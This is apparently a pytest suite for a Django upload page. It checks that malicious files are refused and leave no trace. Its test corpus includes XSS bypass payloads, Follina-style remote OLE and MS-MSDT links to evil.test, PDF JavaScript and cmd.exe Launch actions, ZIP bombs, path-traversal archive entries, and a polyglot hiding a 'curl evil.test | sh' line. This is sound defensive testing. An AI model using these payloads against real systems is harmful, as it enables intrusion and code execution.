"""The corpus of bad uploads (docs/documents.md, "The rules"): each one, sent through the real upload
page, gets its clear message, and leaves nothing behind: no Document or DocumentVersion row, no
file in the storage, no temp file; and the refusal is in the audit log."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart
from django.urls import reverse

from documents.models import DocumentKind
from tests.builders import make_case, pdf_bytes
from tests.documents.support import (
    EICAR,
    ELF_BYTES,
    EXE_BYTES,
    HTML_BYTES,
    JPEG_BYTES,
    OLE_HEADER,
    PNG_BYTES,
    SVG_HTML_POLYGLOT,
    FakeClamd,
    concatenated_zips,
    content_types,
    docx_bytes,
    duplicate_names_zip,
    encrypted_flag_zip,
    lying_headers_zip,
    lying_size_zip,
    nested_zip,
    object_stream,
    ole_bytes,
    ooxml_bytes,
    overlapping_entries_zip,
    patch_zip,
    pdf_with,
    relationships,
    unused_port_address,
    zeros_zip,
    zip_bytes,
    zip_with_renamed_entry,
    zip_with_symlink,
)
from tests.web.support import text

KB = 1024

# Text that carries live markup, each spelling the security test found or that the same idea
# reaches: (id, file name, content).
MARKUP_BYPASSES = [
    ("img-slash-onerror", "report.md", b"# Findings\n\n<img/onerror=alert(1) src=x>\n"),
    ("img-quote-onerror", "report.md", b'# Findings\n\n<img src="x"onerror=alert(1)>\n'),
    ("img-single-quote-onerror", "report.md", b"# Findings\n\n<img src='x'onerror=alert(1)>\n"),
    ("uppercase", "report.md", b"# Findings\n\n<IMG SRC=x ONERROR=alert(1)>\n"),
    ("newlines-around-equals", "report.md", b"# Findings\n\n<img src=x\nonerror\n=\nalert(1)>\n"),
    ("tab-and-formfeed", "report.md", b"# Findings\n\n<img\tsrc=x\x0conerror=alert(1)>\n"),
    ("gt-inside-quoted-value", "report.md", b'# Findings\n\n<img alt=">" onerror=alert(1)>\n'),
    ("tag-inside-quoted-value", "report.md", b'# Findings\n\n<img alt="<b>" onerror=alert(1)>\n'),
    ("tag-behind-blank-line", "report.md", b'# Findings\n\n<a title="\n\n<img src=x onerror=alert(1)>\n\n">\n'),
    ("tag-behind-comment-end", "report.md", b'# Findings\n\n<!-- <p title="--><img src=x onerror=alert(1)>"> -->\n'),
    ("title-raw-text", "report.md", b'# Findings\n\n<title><p title="</title><img src=x onerror=alert(1)>">\n'),
    ("unclosed-tag", "report.md", b"# Findings\n\n<img src=x onerror=alert(1)\n"),
    ("svg-slash-onload", "report.md", b"# Findings\n\n<svg/onload=alert(1)>\n"),
    ("details-ontoggle", "report.md", b"# Findings\n\n<details open ontoggle=alert(1)>\n"),
    ("style-tag", "report.md", b"# Findings\n\n<style>*{background:url(//evil.test/x)}</style>\n"),
    ("a-href-javascript", "report.md", b"# Findings\n\n<a href=javascript:alert(1)>click</a>\n"),
    ("a-href-entity-javascript", "report.md", b'# Findings\n\n<a href="&#106;ava&#x09;script&colon;alert(1)">x</a>\n'),
    ("a-href-padded", "report.md", b'# Findings\n\n<a href="' + b"&#9;" * 3000 + b'javascript:alert(1)">x</a>\n'),
    ("markdown-link-javascript", "report.md", b"# Findings\n\n[click](javascript:alert(1))\n"),
    ("markdown-link-mixed-case", "report.md", b"# Findings\n\n[click]( JaVaScRiPt:alert(1) )\n"),
    ("markdown-link-entities", "report.md", b"# Findings\n\n[click](jav&#x61;script&colon;alert(1))\n"),
    ("markdown-link-backslash", "report.md", b"# Findings\n\n[click](javascript\\:alert(1))\n"),
    ("markdown-link-angle", "report.md", b"# Findings\n\n[click](<javascript:alert(1)>)\n"),
    ("markdown-image-data-html", "report.md", b"# Findings\n\n![x](data:text/html;base64,PHNjcmlwdD4=)\n"),
    ("markdown-reference-vbscript", "report.md", b"# Findings\n\n[click][1]\n\n[1]:\n  vbscript:msgbox(1)\n"),
    ("markdown-autolink-javascript", "report.md", b"# Findings\n\n<javascript:alert(1)>\n"),
    ("pandoc-attribute-handler", "report.md", b'# Findings\n\n[text]{onclick="alert(1)"}\n'),
    ("kramdown-attribute-handler", "report.md", b'# Findings\n\nText\n{: onmouseover="alert(1)"}\n'),
    (
        "split-across-chunks",
        "report.md",
        b"# Findings\n\n<img src=x title=" + b"a" * (1024 * KB - 30) + b" onerror=alert(1)>\n",
    ),
    ("txt-body-onload", "notes.txt", b"Notes\n<body onload=alert(1)>\n"),
    ("csv-cell", "table.csv", b'prompt,outcome\n1,"<img src=x onerror=alert(1)>"\n'),
    ("csv-doubled-quotes", "table.csv", b'prompt,outcome\n1,"<img src=x alt="">"" onerror=alert(1)>"\n'),
    ("json-string", "data.json", b'{"note": "<svg onload=alert(1)>"}'),
    ("json-escaped", "data.json", b'["\\u003cimg src=x onerror=alert(1)\\u003e"]'),
]

MACROS = "contains macros"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
EXTERNAL = "links to external content that Office would load or run"
# (id, file name, content, words of the message)
OFFICE_ACTIVE_CONTENT = [
    (
        "docm-named-docx",
        "report.docx",
        docx_bytes(main_type=MACRO_MAIN, parts={"word/vbaProject.bin": ole_bytes("_VBA_PROJECT")}),
        "The Word document contains macros ('word/vbaProject.bin')",
    ),
    ("macro-content-type-only", "report.docx", docx_bytes(main_type=MACRO_MAIN), MACROS),
    (
        "macro-relationship-only",
        "report.docx",
        docx_bytes(rels=relationships(("vbaProject", "vba.bin", ""))),
        MACROS,
    ),
    (
        "xlsm-macro-sheet-named-xlsx",
        "numbers.xlsx",
        zip_bytes(
            {"[Content_Types].xml": content_types(), "xl/workbook.xml": b"<w/>", "xl/macrosheets/s1.xml": b"<m/>"}
        ),
        "The Excel workbook contains macros ('xl/macrosheets/s1.xml')",
    ),
    (
        "remote-ole-object-mhtml",  # CVE-2021-40444
        "report.docx",
        docx_bytes(
            rels=relationships(("oleObject", "mhtml:http://evil.test/x.html!x-usc:http://evil.test/x", "External"))
        ),
        EXTERNAL,
    ),
    (
        "remote-ole-object-http",  # CVE-2022-30190 ("Follina")
        "report.docx",
        docx_bytes(rels=relationships(("oleObject", "http://evil.test/index.html!", "External"))),
        EXTERNAL,
    ),
    (
        "protocol-handler-link",
        "report.docx",
        docx_bytes(rels=relationships(("hyperlink", " MS-MSDT:/id PCWDiagnostic /skip force", "External"))),
        EXTERNAL,
    ),
    (
        "doctype-in-relationships",
        "report.docx",
        docx_bytes(rels=b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "x">]><Relationships>&e;</Relationships>'),
        "damaged or unusual package part",
    ),
    ("doc-with-vba", "old.doc", ole_bytes("Root Entry", "Macros", "VBA", "_VBA_PROJECT"), MACROS),
    ("xls-with-vba-lower-case", "old.xls", ole_bytes("Root Entry", "_vba_project"), MACROS),
]
JAVASCRIPT = "The PDF contains JavaScript"
# (id, content, words of the message)
PDF_ACTIVE_CONTENT = [
    ("javascript-open-action", pdf_with(b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"), JAVASCRIPT),
    ("javascript-escaped-name", pdf_with(b"<< /S /J#61va#53cript /JS (app.alert(1)) >>"), JAVASCRIPT),
    ("javascript-no-space", pdf_with(b"<</S/JavaScript/JS(app.alert(1))>>"), JAVASCRIPT),
    ("javascript-comment-between", pdf_with(b"<< /S %hidden\n/JavaScript /JS (app.alert(1)) >>"), JAVASCRIPT),
    ("javascript-in-rendition", pdf_with(b"<< /S /Rendition /OP 0 /JS (app.alert(1)) >>"), JAVASCRIPT),
    (
        "javascript-in-object-stream",
        pdf_with(object_stream(b"3 0 << /Type /Action /S /JavaScript /JS (app.alert(1)) >>")),
        JAVASCRIPT,
    ),
    (
        "object-stream-that-cannot-be-read",
        pdf_with(object_stream(b"3 0 << /S /JavaScript >>", filters=b"/ASCIIHexDecode")),
        "cannot be checked for scripts",
    ),
    (
        "launch",
        pdf_with(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        "The PDF contains a Launch action",
    ),
]

# (id, file name, content, settings, words of the message, audit code, HTTP status)
CORPUS = [
    (
        "oversize",
        "big.pdf",
        pdf_bytes() + b"\0" * 5000,
        {"DOCUMENT_MAX_UPLOAD_BYTES": 4 * KB},
        "larger than 4.0\xa0KB",
        "too_large",
        413,
    ),
    ("empty", "empty.pdf", b"", {}, "The file is empty", "empty", 400),
    (
        "pdf-extension-on-html",
        "report.pdf",
        HTML_BYTES,
        {},
        "named .pdf but its content is HTML or SVG markup",
        "mismatch",
        400,
    ),
    ("svg-html-polyglot-as-text", "notes.txt", SVG_HTML_POLYGLOT, {}, "HTML or SVG markup", "markup", 400),
    (
        "svg-html-polyglot-as-png",
        "figure.png",
        SVG_HTML_POLYGLOT,
        {},
        "named .png but its content is HTML or SVG markup",
        "mismatch",
        400,
    ),
    ("svg", "figure.svg", SVG_HTML_POLYGLOT, {}, "Files of type .svg are not accepted", "type", 400),
    ("html", "page.html", HTML_BYTES, {}, "Files of type .html are not accepted", "type", 400),
    ("exe-renamed-pdf", "invoice.pdf", EXE_BYTES, {}, "content is a Windows executable, not a PDF", "mismatch", 400),
    ("elf-renamed-docx", "report.docx", ELF_BYTES, {}, "content is a Linux executable", "mismatch", 400),
    ("exe-renamed-zip", "bundle.zip", EXE_BYTES, {}, "content is a Windows executable", "mismatch", 400),
    ("exe-renamed-txt", "readme.txt", EXE_BYTES, {}, "named .txt but is not valid UTF-8", "text", 400),
    ("exe", "setup.exe", EXE_BYTES, {}, "Files of type .exe are not accepted", "type", 400),
    ("no-extension", "README", b"plain words\n", {}, "has no extension", "type", 400),
    (
        "zip-bomb",
        "bomb.zip",
        zip_bytes({"zeros.bin": b"\0" * (4 * 1024 * KB)}),
        {"DOCUMENT_ZIP_MAX_EXPANDED_BYTES": 1024 * KB},
        "expands to more than 1.0\xa0MB",
        "zip",
        400,
    ),
    ("zip-bomb-lying-sizes", "liar.zip", lying_size_zip(), {}, "disagree (the sizes)", "zip", 400),
    # ZIP bombs by ratio, well under the expanded-size limit (4 GiB by default).
    (
        "zip-bomb-by-ratio",
        "bomb.zip",
        zeros_zip(8 * 1024 * KB),
        {},
        "The ZIP archive expands more than 100 times its size ('zeros.bin'",
        "zip",
        400,
    ),
    (
        "zip-bomb-by-ratio-setting",
        "bomb.zip",
        zip_bytes({"log.txt": b"the same line again\n" * 300_000}),
        {"DOCUMENT_ZIP_MAX_RATIO": 20},
        "expands more than 20 times its size",
        "zip",
        400,
    ),
    (
        "zip-bomb-headers-lie-together",
        "liar.zip",
        lying_headers_zip(8 * 1024 * KB),
        {},
        "expands more than 100 times its size ('zeros.bin'",
        "zip",
        400,
    ),
    (
        "zip-headers-lie-together",
        "liar.zip",
        patch_zip(zip_bytes({"big.txt": b"A" * 100_000}), local={22: b"\x0a\0\0\0"}, central={24: b"\x0a\0\0\0"}),
        {},
        "'big.txt' declares 10 bytes but holds 100,000",
        "zip",
        400,
    ),
    (
        "zip-bomb-many-small-entries",
        "many.zip",
        zip_bytes({f"part{i}.bin": b"\0" * (64 * KB) for i in range(100)}),
        {},
        "(the whole archive:",
        "zip",
        400,
    ),
    (
        "zip-bomb-nested",
        "outer.zip",
        zip_bytes({"notes.txt": b"ordinary", "inner.zip": zeros_zip(8 * 1024 * KB)}, compression=zipfile.ZIP_STORED),
        {},
        "('inner.zip → zeros.bin'",
        "zip",
        400,
    ),
    (
        "docx-bomb",
        "report.docx",
        zip_bytes(
            {
                "[Content_Types].xml": b"<Types/>",
                "word/document.xml": b"<w:p>" + b"<w:r>AAAA</w:r>" * 400_000 + b"</w:p>",
            }
        ),
        {},
        "The Word document expands more than 100 times its size ('word/document.xml'",
        "zip",
        400,
    ),
    (
        "zip-nested-too-deep",
        "russian-doll.zip",
        nested_zip(5),
        {"DOCUMENT_ZIP_MAX_DEPTH": 3},
        "nests archives more than 3 deep",
        "zip",
        400,
    ),
    (
        "zip-too-many-entries",
        "many.zip",
        zip_bytes({f"f{i}.txt": b"x" for i in range(11)}),
        {"DOCUMENT_ZIP_MAX_ENTRIES": 10},
        "more than 10 entries",
        "zip",
        400,
    ),
    (
        "zip-dotdot-path",
        "escape.zip",
        zip_bytes({"../../portal/settings.py": b"DEBUG = True"}),
        {},
        "path that escapes its folder",
        "zip",
        400,
    ),
    (
        "zip-absolute-path",
        "absolute.zip",
        zip_bytes({"/etc/cron.d/job": b"* * * * * root id"}),
        {},
        "path that escapes its folder",
        "zip",
        400,
    ),
    (
        "zip-backslash-path",
        "windows.zip",
        zip_bytes({"..\\..\\startup.bat": b"echo"}),
        {},
        "path that escapes its folder",
        "zip",
        400,
    ),
    ("zip-symlink", "link.zip", zip_with_symlink(), {}, "symbolic link", "zip", 400),
    # A file of another type that is also a ZIP archive is held to the archive rules.
    (
        "pdf-zip-polyglot-bomb",
        "report.pdf",
        pdf_bytes() + zeros_zip(8 * 1024 * KB),
        {},
        "The PDF is also a ZIP archive (a polyglot file)",
        "zip",
        400,
    ),
    (
        "jpeg-zip-polyglot-escape",
        "photo.jpg",
        JPEG_BYTES + zip_bytes({"../../.bashrc": b"curl evil.test | sh"}),
        {},
        "path that escapes its folder",
        "zip",
        400,
    ),
    (
        # An entry no tool can read does not excuse the others from the checks.
        "pdf-zip-polyglot-bomb-behind-encrypted-entry",
        "report.pdf",
        pdf_bytes()
        + patch_zip(
            zip_bytes({"locked.txt": b"x", "zeros.bin": b"\0" * (8 * 1024 * KB)}),
            local={6: b"\x01\0"},
            central={8: b"\x01\0"},
        ),
        {},
        "The PDF is also a ZIP archive (a polyglot file)",
        "zip",
        400,
    ),
    # Names and structures that make tools disagree about what an archive holds.
    (
        "zip-nul-in-name",
        "nul.zip",
        zip_with_renamed_entry({"evil.txt_.pdf": b"x"}, "evil.txt_.pdf", b"evil.txt\0.pdf"),
        {},
        "a control character such as NUL",
        "zip",
        400,
    ),
    (
        "zip-drive-letter",
        "drive.zip",
        zip_bytes({"C:/Windows/System32/evil.dll": b"MZ"}),
        {},
        "path that escapes its folder",
        "zip",
        400,
    ),
    (
        "zip-unc-path",
        "unc.zip",
        zip_bytes({"\\\\server\\share\\evil.exe": b"MZ"}),
        {},
        "path that escapes its folder",
        "zip",
        400,
    ),
    (
        "zip-bidi-name",
        "bidi.zip",
        zip_bytes({"invoice\u202efdp.exe": b"MZ"}),
        {},
        "right-to-left override",
        "zip",
        400,
    ),
    ("zip-duplicate-names", "twice.zip", duplicate_names_zip(), {}, "two entries named 'report.txt'", "zip", 400),
    (
        "zip-local-header-encrypted",
        "half-locked.zip",
        patch_zip(zip_bytes({"secret.txt": b"secret"}), local={6: b"\x01\0"}),
        {},
        "disagree (whether it is encrypted)",
        "zip",
        400,
    ),
    (
        "zip-local-header-method",
        "method.zip",
        patch_zip(zip_bytes({"a.txt": b"a" * 1000}), local={8: b"\0\0"}),
        {},
        "disagree (the compression method)",
        "zip",
        400,
    ),
    (
        "zip-local-header-name",
        "names.zip",
        zip_bytes({"report.txt": b"x"}).replace(b"report.txt", b"script.txt", 1),
        {},
        "disagree (the file name)",
        "zip",
        400,
    ),
    ("zip-overlapping-entries", "overlap.zip", overlapping_entries_zip(), {}, "entries overlap", "zip", 400),
    ("zip-hidden-entry", "two-in-one.zip", concatenated_zips(), {}, "does not list", "zip", 400),
    (
        "zip-strong-encryption",
        "strong.zip",
        patch_zip(zip_bytes({"secret.txt": b"secret"}), local={6: b"\x41\0"}, central={8: b"\x41\0"}),
        {},
        "The archive is encrypted ('secret.txt')",
        "zip",
        400,
    ),
    ("zip-encrypted", "locked.zip", encrypted_flag_zip(), {}, "The archive is encrypted", "zip", 400),
    ("zip-truncated", "broken.zip", zip_bytes({"a.txt": b"a" * 1000})[:60], {}, "damaged", "zip", 400),
    (
        "zip-named-docx",
        "report.docx",
        zip_bytes({"a.txt": b"not office"}),
        {},
        "is a ZIP archive but not a Word document",
        "mismatch",
        400,
    ),
    ("docx-named-xlsx", "numbers.xlsx", ooxml_bytes("word/"), {}, "not an Excel workbook", "mismatch", 400),
    ("jpeg-named-png", "photo.png", JPEG_BYTES, {}, "content is a JPEG image, not a PNG image", "mismatch", 400),
    ("png-named-jpg", "photo.jpg", PNG_BYTES, {}, "content is a PNG image, not a JPEG image", "mismatch", 400),
    ("gif-named-jpg", "anim.jpg", b"GIF89a\x01\x00\x01\x00", {}, "content is a GIF image", "mismatch", 400),
    ("ole-named-pdf", "old.pdf", OLE_HEADER + b"\0" * 504, {}, "97-2003 file, not a PDF", "mismatch", 400),
    ("pdf-named-txt", "notes.txt", pdf_bytes(), {}, "named .txt but its content is a PDF", "mismatch", 400),
    ("text-not-utf8", "notes.txt", "Café résumé naïve\n".encode("latin-1"), {}, "not valid UTF-8", "text", 400),
    ("csv-with-nul", "table.csv", b"a,b\n1,\x002\n", {}, "holds NUL bytes", "text", 400),
    (
        "markdown-with-script",
        "report.md",
        b"# Findings\n\nSee <script src=//evil.test/x.js></script>\n",
        {},
        "HTML, SVG or script markup",
        "markup",
        400,
    ),
    (
        "markdown-event-handler",
        "report.md",
        b"# Findings\n\n<img src=x onerror=alert(1)>\n",
        {},
        "HTML, SVG or script markup",
        "markup",
        400,
    ),
    ("html-named-csv", "data.csv", b"  <html><body>hi</body></html>", {}, "is HTML or SVG markup", "markup", 400),
    ("json-invalid", "data.json", b'{"a": 1,,}', {}, "not valid JSON", "text", 400),
    ("json-not-object", "data.json", b"<?xml version='1.0'?><a/>", {}, "HTML or SVG markup", "markup", 400),
    # Event handlers, dangerous tags and script URLs in text files, in every spelling that
    # a browser or a Markdown renderer would still run.
    *[
        (f"markup-{case_id}", name, content, {}, "HTML, SVG or script markup", "markup", 400)
        for case_id, name, content in MARKUP_BYPASSES
    ],
    # Active content in Office files, under the names of files without it.
    *[
        (f"office-{case_id}", name, content, {}, message, "active_content", 400)
        for case_id, name, content, message in OFFICE_ACTIVE_CONTENT
    ],
    *[
        (f"pdf-{case_id}", "report.pdf", content, {}, message, "active_content", 400)
        for case_id, content, message in PDF_ACTIVE_CONTENT
    ],
    # Hostile names: what the cleaned name really is decides, and the stored name is never the user's.
    ("name-dotdot", "../../portal/settings.py", b"SECRET_KEY = 'x'\n", {}, "type .py are not accepted", "type", 400),
    ("name-nul", "report.pdf\x00.html", HTML_BYTES, {}, "type .html are not accepted", "type", 400),
    ("name-control-chars", "report\x1b[2J\x07.exe", EXE_BYTES, {}, "type .exe are not accepted", "type", 400),
    (
        "name-300-chars",
        "quarterly-report.pdf" + " " * 276 + ".exe",
        EXE_BYTES,
        {},
        "type .exe are not accepted",
        "type",
        400,
    ),
    ("name-rtl-override", "invoice\u202efdp.exe", EXE_BYTES, {}, "type .exe are not accepted", "type", 400),
    ("name-only-dots", "...", pdf_bytes(), {}, "The file has no usable name", "name", 400),
    # Double extensions and Unicode tricks; the last extension of the cleaned name decides.
    ("name-double-extension", "report.pdf.exe", EXE_BYTES, {}, "type .exe are not accepted", "type", 400),
    ("name-zero-width-space", "report.pdf\u200b.exe", EXE_BYTES, {}, "type .exe are not accepted", "type", 400),
    ("name-trailing-dots-and-spaces", "setup.exe. . .", EXE_BYTES, {}, "type .exe are not accepted", "type", 400),
    ("name-fullwidth-dot", "setup\uff0eexe", EXE_BYTES, {}, "has no extension", "type", 400),
    ("name-ntfs-stream", "report.pdf::$DATA", pdf_bytes(), {}, "type .pdf::$data are not accepted", "type", 400),
    ("name-cyrillic-extension", "report.\u0440df", pdf_bytes(), {}, "are not accepted", "type", 400),
]


def post_document(client, case, name, content, **extra):
    data = {
        "kind": DocumentKind.EVALUATION_REPORT,
        "title": "Evaluation report",
        "marking": "PROPRIETARY",
        "file": SimpleUploadedFile(name, content),
    }
    return client.post(reverse("documents:create", args=[case.pk]), data, **extra)


@pytest.mark.parametrize(
    ("name", "content", "overrides", "message", "code", "status"),
    [pytest.param(*entry[1:], id=entry[0]) for entry in CORPUS],
)
def test_bad_upload_is_refused_with_its_message_and_leaves_nothing(
    client_for, alex, draft_case, ledger, settings, name, content, overrides, message, code, status
):
    for key, value in overrides.items():
        setattr(settings, key, value)
    client = client_for(alex)
    before = ledger()

    response = post_document(client, draft_case, name, content)

    assert response.status_code == status
    assert message in text(response)
    before.assert_nothing_kept(code=code)


def test_the_corpus_has_at_least_thirty_entries():
    # Plus the cases below that need their own set-up.
    assert len(CORPUS) >= 30


def test_the_json_answer_carries_the_same_message(client_for, alex, draft_case, ledger):
    client = client_for(alex)
    before = ledger()
    response = post_document(client, draft_case, "invoice.pdf", EXE_BYTES, headers={"Accept": "application/json"})
    assert response.status_code == 400
    assert response.json() == {
        "ok": False,
        "code": "mismatch",
        "error": "The file is named .pdf but its content is a Windows executable, not a PDF. "
        "Upload the file in the format its name says.",
    }
    before.assert_nothing_kept(code="mismatch")


def test_a_request_declaring_more_than_the_limit_is_refused_before_its_body_is_read(
    client_for, alex, draft_case, ledger, settings
):
    settings.DOCUMENT_MAX_UPLOAD_BYTES = 4 * KB
    client = client_for(alex)
    before = ledger()

    class Unreadable(io.RawIOBase):
        def read(self, size=-1):
            raise AssertionError("the body must not be read")

    response = client.generic(
        "POST",
        reverse("documents:create", args=[draft_case.pk]),
        CONTENT_TYPE=MULTIPART_CONTENT,
        CONTENT_LENGTH=str(50 * 1024 * 1024),
        **{"wsgi.input": Unreadable()},
    )
    assert response.status_code == 413
    assert "larger than 4.0\xa0KB" in text(response)
    before.assert_nothing_kept(code="too_large")


def test_duplicate_of_the_latest_version_is_refused(client_for, alex, draft_case, ledger):
    client = client_for(alex)
    document = draft_case.documents.get(kind=DocumentKind.SYSTEM_CARD)
    latest = document.versions.get()
    same = document.versions.get().file.open("rb").read()
    before = ledger()
    response = client.post(
        reverse("documents:version_create", args=[document.pk]), {"file": SimpleUploadedFile("copy.pdf", same)}
    )
    assert response.status_code == 409
    assert f"identical to version {latest.number}" in text(response)
    before.assert_nothing_kept(code="duplicate")


def test_upload_to_another_firms_case_is_not_found(client_for, kim, draft_case, ledger):
    client = client_for(kim)
    before = ledger()
    response = post_document(client, draft_case, "report.pdf", pdf_bytes())
    assert response.status_code == 404
    before.assert_nothing_kept()
    assert [e.action for e in before.new_events()] == ["access.refused"]


def test_upload_by_an_unassigned_agency_is_not_found(client_for, case, cisa_reviewer, ledger):
    client = client_for(cisa_reviewer)
    before = ledger()
    assert post_document(client, case, "report.pdf", pdf_bytes()).status_code == 404
    before.assert_nothing_kept()


def test_a_coordinator_who_sees_the_case_cannot_upload(client_for, case, coordinator, ledger):
    client = client_for(coordinator)
    before = ledger()
    response = post_document(client, case, "report.pdf", pdf_bytes())
    assert response.status_code == 403
    assert "Only the firm's liaisons and the assigned agencies' reviewers" in text(response)
    before.assert_nothing_kept(code="forbidden")


@pytest.mark.parametrize("end", ["closed", "withdrawn"])
def test_upload_to_a_closed_or_withdrawn_case_is_refused(client_for, alex, coordinator, ledger, end):
    case = make_case(alex, state=end, agencies=("dod",), coordinator=coordinator, uploaded=True)
    client = client_for(alex)
    before = ledger()
    response = post_document(client, case, "report.pdf", pdf_bytes())
    assert response.status_code == 409
    assert "it is read-only" in text(response)
    before.assert_nothing_kept(code="read_only")
    document = case.documents.first()
    response = client.post(
        reverse("documents:version_create", args=[document.pk]), {"file": SimpleUploadedFile("v2.pdf", pdf_bytes())}
    )
    assert response.status_code == 409
    # The page offers no form to fill in.
    assert (
        'enctype="multipart/form-data"' not in client.get(reverse("documents:create", args=[case.pk])).content.decode()
    )


def test_an_anonymous_upload_is_sent_to_sign_in(client, draft_case, ledger):
    before = ledger()
    response = post_document(client, draft_case, "report.pdf", pdf_bytes())
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]
    before.assert_nothing_kept(code="anonymous")


def test_a_request_cut_off_mid_body_keeps_nothing(client_for, alex, draft_case, ledger):
    client = client_for(alex)
    body = encode_multipart(
        BOUNDARY,
        {
            "kind": DocumentKind.EVALUATION_REPORT,
            "title": "Evaluation report",
            "marking": "PROPRIETARY",
            "file": SimpleUploadedFile("report.pdf", pdf_bytes() + b"%" * 200_000),
        },
    )
    before = ledger()
    response = client.generic(
        "POST",
        reverse("documents:create", args=[draft_case.pk]),
        CONTENT_TYPE=MULTIPART_CONTENT,
        CONTENT_LENGTH=str(len(body)),  # what the client promised...
        **{"wsgi.input": io.BytesIO(body[: len(body) // 2])},  # ...and what arrived before the connection dropped
    )
    assert response.status_code == 400
    assert "cut off before the whole file arrived" in text(response)
    before.assert_nothing_kept(code="cut_off")


@pytest.mark.parametrize("enforce_csrf", [False, True])
def test_a_connection_that_fails_mid_body_keeps_nothing(client_for, alex, draft_case, ledger, enforce_csrf):
    # With CSRF enforced too: the refusal is recorded although the body never delivered its token.
    client = client_for(alex, enforce_csrf_checks=enforce_csrf)
    body = encode_multipart(
        BOUNDARY,
        {
            "kind": "other",
            "title": "T",
            "marking": "PROPRIETARY",
            "file": SimpleUploadedFile("r.pdf", b"%PDF-" * 50_000),
        },
    )

    class Dropping(io.BytesIO):
        """Half the body arrives, then the connection fails."""

        def read(self, size=-1):
            half = len(body) // 2
            if self.tell() >= half:
                raise OSError("connection reset by peer")
            return super().read(half - self.tell() if size is None or size < 0 else min(size, half - self.tell()))

    before = ledger()
    response = client.generic(
        "POST",
        reverse("documents:create", args=[draft_case.pk]),
        CONTENT_TYPE=MULTIPART_CONTENT,
        CONTENT_LENGTH=str(len(body)),
        **{"wsgi.input": Dropping(body)},
    )
    assert response.status_code == 400
    assert "cut off or malformed" in text(response)
    before.assert_nothing_kept(code="cut_off")


def test_two_files_in_one_request_are_refused(client_for, alex, draft_case, ledger):
    client = client_for(alex)
    before = ledger()
    response = client.post(
        reverse("documents:create", args=[draft_case.pk]),
        {
            "kind": "other",
            "title": "Two",
            "marking": "PROPRIETARY",
            "file": [SimpleUploadedFile("a.pdf", pdf_bytes()), SimpleUploadedFile("b.pdf", pdf_bytes())],
        },
    )
    assert response.status_code == 400
    assert "Upload one file at a time" in text(response)
    before.assert_nothing_kept(code="multiple")


def test_a_reviewer_may_not_show_a_working_file_to_the_firm(client_for, case, dod_reviewer, ledger):
    client = client_for(dod_reviewer)
    before = ledger()
    response = client.post(
        reverse("documents:create", args=[case.pk]),
        {
            "kind": "evaluation_report",
            "title": "Notes",
            "marking": "CUI",
            "visibility": "firm",
            "file": SimpleUploadedFile("notes.pdf", pdf_bytes()),
        },
    )
    assert response.status_code == 400
    assert "Correct the form" in text(response)  # 'firm' is not one of the reviewer's choices
    before.assert_nothing_kept(code="invalid")


def test_the_virus_scanner_refuses_eicar(client_for, alex, draft_case, ledger, settings):
    with FakeClamd() as clamd:
        settings.CLAMAV_ADDRESS = clamd.address
        client = client_for(alex)
        before = ledger()
        response = post_document(client, draft_case, "eicar.txt", EICAR + b"\n")
        assert response.status_code == 400
        assert "The virus scanner found Eicar-Test-Signature in this file" in text(response)
        before.assert_nothing_kept(code="virus_found")

        # A clean file passes the same scanner, which saw all of its bytes.
        response = post_document(client, draft_case, "clean.txt", b"Nothing to see here.\n")
        assert response.status_code == 302
        assert clamd.scanned[-1] == len(b"Nothing to see here.\n")


def test_an_unreachable_scanner_refuses_the_upload(client_for, alex, draft_case, ledger, settings):
    settings.CLAMAV_ADDRESS = unused_port_address()
    client = client_for(alex)
    before = ledger()
    response = post_document(client, draft_case, "report.pdf", pdf_bytes())
    assert response.status_code == 400
    assert "The virus scanner could not be reached, so the file was not accepted" in text(response)
    before.assert_nothing_kept(code="scanner_unavailable")


def test_a_nested_archive_within_the_limits_is_accepted(client_for, alex, draft_case, ledger, settings):
    settings.DOCUMENT_ZIP_MAX_DEPTH = 3
    client = client_for(alex)
    response = post_document(client, draft_case, "dolls.zip", nested_zip(3))
    assert response.status_code == 302
    assert zipfile.is_zipfile(io.BytesIO(nested_zip(3)))


# Ordinary text that mentions "<", links, tags and the words of the rules, and must be accepted.
BENIGN_TEXTS = [
    (
        "code-with-comparisons.md",
        b"# Results\n\n```python\nif a < b and x<y:\n    arrow = a <- b\n    one = 1\n```\n\n"
        b"Inline `x<y`, 3 < 4, p <= 0.05, std::vector<int> and a -> b.\n",
    ),
    (
        "autolinks.md",
        b"# Contacts\n\nSee <https://example.com/report?id=1&x=2> or write to <evals@example.com>.\n",
    ),
    (
        "html-in-markdown.md",
        b"Intro\n\n<details>\n<summary>Prompts</summary>\n\n"
        b'<img src="https://example.com/chart.png" alt="Refusal rate > 90%" width="400">\n\n</details>\n\n'
        b"<!-- reviewer note: check the chart -->\n"
        b"[the report](https://example.com/report.pdf), ![chart](chart.png) and ![badge](data:image/png;base64,iVBO)\n",
    ),
    ("special-tokens.md", b"Special tokens: <s>, </s>, <pad>, <unk>, <|endoftext|>.\n"),
    (
        "prose-about-the-rules.md",
        b"We tested whether the model writes javascript: URLs or onclick handlers; it refused. A <b>bold</b> claim.\n",
    ),
    ("data.json", b'{"url": "https://example.com", "note": "a < b", "escaped": "\\u00e9t\\u00e9", "html": false}'),
    ("table.csv", b'prompt,outcome\n"Say ""hi""",refused\n"x<y, one = 1",ok\n'),
]


@pytest.mark.parametrize(("name", "content"), BENIGN_TEXTS, ids=[name for name, _content in BENIGN_TEXTS])
def test_ordinary_text_is_accepted(client_for, alex, draft_case, name, content):
    client = client_for(alex)
    response = post_document(client, draft_case, name, content)
    assert response.status_code == 302, text(response)
    version = draft_case.documents.order_by("-pk").first().versions.get()
    assert version.original_name == name
    assert version.file.open("rb").read() == content


def test_a_file_name_that_carries_markup_is_kept_as_text_and_shown_escaped(client_for, alex, draft_case):
    client = client_for(alex)
    name = '<img src=x onerror="alert(1)">.pdf'
    response = post_document(client, draft_case, name, pdf_bytes())
    assert response.status_code == 302
    document = draft_case.documents.order_by("-pk").first()
    assert document.versions.get().original_name == name
    page = client.get(reverse("documents:detail", args=[document.pk])).content.decode()
    assert "&lt;img src=x onerror=" in page
    assert "<img src=x" not in page
